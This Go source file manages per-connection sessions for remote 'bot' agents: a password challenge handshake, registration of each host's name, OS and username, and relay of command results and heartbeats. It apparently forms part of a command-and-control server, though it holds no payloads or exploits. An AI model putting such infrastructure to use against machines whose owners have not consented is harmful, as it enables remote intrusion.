// ABOUTME: Per-connection session state machine for one agent socket.
// ABOUTME: Runs the auth handshake, registration, and receive loop; owns the socket exclusively.

package session

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"sync"
	"time"

	"github.com/alzzmetth/Osxnt/internal/protocol"
	"github.com/alzzmetth/Osxnt/internal/registry"
)

// ErrAuthFailed indicates the agent failed the challenge/response handshake.
var ErrAuthFailed = errors.New("authentication failed")

// ErrRegistrationFailed indicates the agent did not complete registration
// within the handshake window or sent a malformed payload.
var ErrRegistrationFailed = errors.New("registration failed")

// ResultHandler receives command results correlated by command ID and is
// told when a bot disconnects so its outstanding commands can be abandoned.
// Implemented by the dispatcher.
type ResultHandler interface {
	Resolve(botID, cmdID, result string)
	DropBot(botID string)
}

// DisconnectRecorder persists disconnect events. Implemented by the history
// store; a nil recorder disables persistence.
type DisconnectRecorder interface {
	RecordDisconnect(ctx context.Context, botID, address, reason string) error
}

// Config holds the session timing and auth parameters.
type Config struct {
	// Password is the shared secret agents must prove knowledge of.
	Password string
	// HandshakeTimeout bounds the whole auth + registration exchange.
	HandshakeTimeout time.Duration
	// ReadTimeout is the per-read wait in the active loop; on expiry the
	// session sends a heartbeat probe instead of closing.
	ReadTimeout time.Duration
}

// Params bundles the dependencies for a new session.
type Params struct {
	Conn     net.Conn
	Registry *registry.Registry
	Results  ResultHandler
	History  DisconnectRecorder
	Config   Config
	Logger   *slog.Logger
}

// Session owns one agent's socket from accept until close. It implements
// registry.Transport so the dispatcher and sweeper can reach the socket
// without holding a reference to it directly.
type Session struct {
	conn    net.Conn
	reg     *registry.Registry
	results ResultHandler
	history DisconnectRecorder
	cfg     Config
	logger  *slog.Logger

	enc     *protocol.Encoder
	dec     *protocol.Decoder
	writeMu sync.Mutex

	// stateMu guards botID, logger, and closed. The server can observe a
	// session (and call Close) before the handshake finishes, so the
	// registration-time writes and the close-path reads need synchronization.
	stateMu sync.Mutex
	botID   string
	closed  bool

	closeOnce sync.Once
	closeErr  error

	now func() time.Time
}

// New creates a session for an accepted connection. Run must be called to
// drive it.
func New(p Params) *Session {
	cfg := p.Config
	if cfg.HandshakeTimeout <= 0 {
		cfg.HandshakeTimeout = 10 * time.Second
	}
	if cfg.ReadTimeout <= 0 {
		cfg.ReadTimeout = 30 * time.Second
	}
	logger := p.Logger
	if logger == nil {
		logger = slog.Default()
	}
	return &Session{
		conn:    p.Conn,
		reg:     p.Registry,
		results: p.Results,
		history: p.History,
		cfg:     cfg,
		logger:  logger.With("remote", p.Conn.RemoteAddr().String()),
		enc:     protocol.NewEncoder(p.Conn),
		dec:     protocol.NewDecoder(p.Conn),
		now:     time.Now,
	}
}

// BotID returns the bot ID assigned at registration, or "" before it.
func (s *Session) BotID() string {
	s.stateMu.Lock()
	defer s.stateMu.Unlock()
	return s.botID
}

// Run drives the session to completion: handshake, then the receive loop.
// It always closes the socket before returning. The returned error describes
// why the session ended; a clean agent EOF returns nil.
func (s *Session) Run(ctx context.Context) error {
	if err := s.handshake(); err != nil {
		s.closeWith(err.Error())
		return err
	}

	err := s.receiveLoop(ctx)
	if errors.Is(err, io.EOF) {
		s.closeWith("agent closed connection")
		return nil
	}
	if err != nil {
		s.closeWith(err.Error())
		return err
	}
	s.closeWith("server shutdown")
	return nil
}

// handshake runs authentication then registration, both bounded by a single
// deadline. No bot record exists until registration succeeds.
func (s *Session) handshake() error {
	deadline := s.now().Add(s.cfg.HandshakeTimeout)
	if err := s.conn.SetDeadline(deadline); err != nil {
		return fmt.Errorf("setting handshake deadline: %w", err)
	}

	if err := s.authenticate(); err != nil {
		return err
	}
	if err := s.register(); err != nil {
		return err
	}

	// Clear the handshake deadline; the receive loop manages its own.
	return s.conn.SetDeadline(time.Time{})
}

func (s *Session) authenticate() error {
	challenge, err := protocol.NewChallenge()
	if err != nil {
		return fmt.Errorf("%w: %v", ErrAuthFailed, err)
	}
	if err := s.Send(protocol.AuthChallenge{Type: protocol.TypeAuth, Challenge: challenge}); err != nil {
		return fmt.Errorf("%w: sending challenge: %v", ErrAuthFailed, err)
	}

	env, err := s.dec.Decode()
	if err != nil {
		return fmt.Errorf("%w: reading reply: %v", ErrAuthFailed, err)
	}
	var reply protocol.AuthReply
	if err := env.Bind(&reply); err != nil {
		return fmt.Errorf("%w: malformed reply: %v", ErrAuthFailed, err)
	}

	if !protocol.VerifyResponse(challenge, s.cfg.Password, reply.Response) {
		// Explicit failure notice before closing; write errors here are moot.
		_ = s.Send(protocol.AuthResult{Status: protocol.StatusError, Message: "authentication failed"})
		s.logger.Warn("agent failed authentication")
		return ErrAuthFailed
	}

	if err := s.Send(protocol.AuthResult{Status: protocol.StatusOK}); err != nil {
		return fmt.Errorf("%w: sending result: %v", ErrAuthFailed, err)
	}
	return nil
}

func (s *Session) register() error {
	env, err := s.dec.Decode()
	if err != nil {
		return fmt.Errorf("%w: reading info: %v", ErrRegistrationFailed, err)
	}
	var info protocol.Registration
	if err := env.Bind(&info); err != nil {
		return fmt.Errorf("%w: malformed info: %v", ErrRegistrationFailed, err)
	}

	botID := s.reg.Register(registry.BotInfo{
		Address:  s.conn.RemoteAddr().String(),
		Hostname: info.Hostname,
		OS:       info.OS,
		Username: info.Username,
	})

	// Publish the registered identity and attach the transport in one
	// critical section so a concurrent Close either sees the full identity
	// and cleans it up, or ran first and suppresses the attach entirely.
	s.stateMu.Lock()
	s.botID = botID
	s.logger = s.logger.With("bot_id", botID)
	closed := s.closed
	if !closed {
		s.reg.Attach(botID, s)
	}
	s.stateMu.Unlock()

	if closed {
		s.reg.SetStatus(botID, registry.StatusDisconnected)
		return fmt.Errorf("%w: session closed during registration", ErrRegistrationFailed)
	}

	ack := protocol.RegisterAck{Type: protocol.TypeRegister, BotID: botID, Status: protocol.StatusOK}
	if err := s.Send(ack); err != nil {
		return fmt.Errorf("%w: sending ack: %v", ErrRegistrationFailed, err)
	}
	return nil
}

// receiveLoop reads frames until the connection fails or ctx is cancelled.
// Read timeouts are not fatal: the session probes the agent with a heartbeat
// and keeps waiting; liveness is judged by the sweeper, not by the probe.
func (s *Session) receiveLoop(ctx context.Context) error {
	for {
		if ctx.Err() != nil {
			return nil
		}
		if err := s.conn.SetReadDeadline(s.now().Add(s.cfg.ReadTimeout)); err != nil {
			return fmt.Errorf("setting read deadline: %w", err)
		}

		env, err := s.dec.Decode()
		if err != nil {
			var netErr net.Error
			if errors.As(err, &netErr) && netErr.Timeout() {
				if perr := s.sendProbe(); perr != nil {
					return fmt.Errorf("transport error: %w", perr)
				}
				continue
			}
			if errors.Is(err, protocol.ErrMalformed) {
				// Frame boundary is intact; drop the message and continue.
				s.logger.Warn("dropping malformed message", "error", err)
				continue
			}
			if errors.Is(err, io.EOF) {
				return io.EOF
			}
			return fmt.Errorf("transport error: %w", err)
		}

		s.handle(env)
	}
}

// handle dispatches one inbound frame. Every inbound message counts as
// liveness. Unknown types are logged and ignored, never fatal.
func (s *Session) handle(env *protocol.Envelope) {
	s.reg.UpdateLastSeen(s.botID)

	switch env.Type {
	case protocol.TypeHeartbeat:
		s.logger.Debug("heartbeat received")

	case protocol.TypeResult:
		var res protocol.Result
		if err := env.Bind(&res); err != nil {
			s.logger.Warn("dropping malformed result", "error", err)
			return
		}
		s.logger.Debug("command result received", "cmd_id", res.CmdID)
		if s.results != nil {
			s.results.Resolve(s.botID, res.CmdID, res.Result)
		}

	case protocol.TypeStatus:
		var upd protocol.StatusUpdate
		if err := env.Bind(&upd); err != nil {
			s.logger.Warn("dropping malformed status update", "error", err)
			return
		}
		s.reg.MergeStatus(s.botID, upd.Data)

	case protocol.TypeError:
		var rep protocol.ErrorReport
		if err := env.Bind(&rep); err != nil {
			s.logger.Warn("dropping malformed error report", "error", err)
			return
		}
		s.logger.Error("agent reported error", "error", rep.Error)
		s.reg.AppendLog(registry.LevelError, fmt.Sprintf("Bot %s: %s", s.botID, rep.Error))

	default:
		s.logger.Warn("ignoring unknown message type", "type", env.Type)
	}
}

func (s *Session) sendProbe() error {
	s.logger.Debug("connection quiet, probing agent")
	return s.Send(protocol.Heartbeat{
		Type:      protocol.TypeHeartbeat,
		Timestamp: float64(s.now().UnixNano()) / float64(time.Second),
	})
}

// Send writes one frame to the agent. Writes are serialized so dispatcher
// traffic and heartbeat probes never interleave inside a frame.
func (s *Session) Send(v any) error {
	s.writeMu.Lock()
	defer s.writeMu.Unlock()
	return s.enc.Encode(v)
}

// Close tears the session down. Safe to call from any goroutine and any
// number of times; the socket is closed exactly once. External callers
// (sweeper eviction, server shutdown) land here too, so every disconnect
// cause converges on the same cleanup.
func (s *Session) Close() error {
	s.closeWith("forced disconnect")
	return s.closeErr
}

func (s *Session) closeWith(reason string) {
	s.closeOnce.Do(func() {
		s.closeErr = s.conn.Close()

		s.stateMu.Lock()
		s.closed = true
		botID := s.botID
		logger := s.logger
		s.stateMu.Unlock()
		if botID == "" {
			return
		}

		s.reg.Detach(botID)
		s.reg.SetStatus(botID, registry.StatusDisconnected)
		s.reg.AppendLog(registry.LevelInfo, fmt.Sprintf("Bot %s disconnected", botID))
		logger.Info("session closed", "reason", reason)

		if s.results != nil {
			s.results.DropBot(botID)
		}
		if s.history != nil {
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			defer cancel()
			if err := s.history.RecordDisconnect(ctx, botID, s.conn.RemoteAddr().String(), reason); err != nil {
				logger.Warn("recording disconnect event", "error", err)
			}
		}
	})
}
